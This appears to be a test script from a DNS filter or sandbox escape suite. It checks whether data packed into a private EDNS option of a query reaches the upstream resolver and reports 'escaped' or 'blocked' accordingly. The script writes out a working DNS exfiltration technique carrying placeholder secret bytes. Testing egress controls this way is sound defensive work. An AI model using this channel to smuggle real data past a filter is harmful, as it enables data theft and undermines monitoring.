#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""An EDNS option of the query carries data to the upstream, whatever the name is."""
import os
import sys

sys.path.insert(0, os.environ["ESC_SRC"] + "/include")
from dnsc import *

alive()
data = b"secret" * 8
opt = b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, 4 + len(data), 65001, len(data)) + data
i, q = query("echo." + ALLOWED, extra=opt, ar=1)
a = addrs(udp(q))
if os.environ.get("SMUGGLED_IP", "203.0.113.66") in a:
    escaped("the upstream saw the option")
blocked("the option did not arrive")
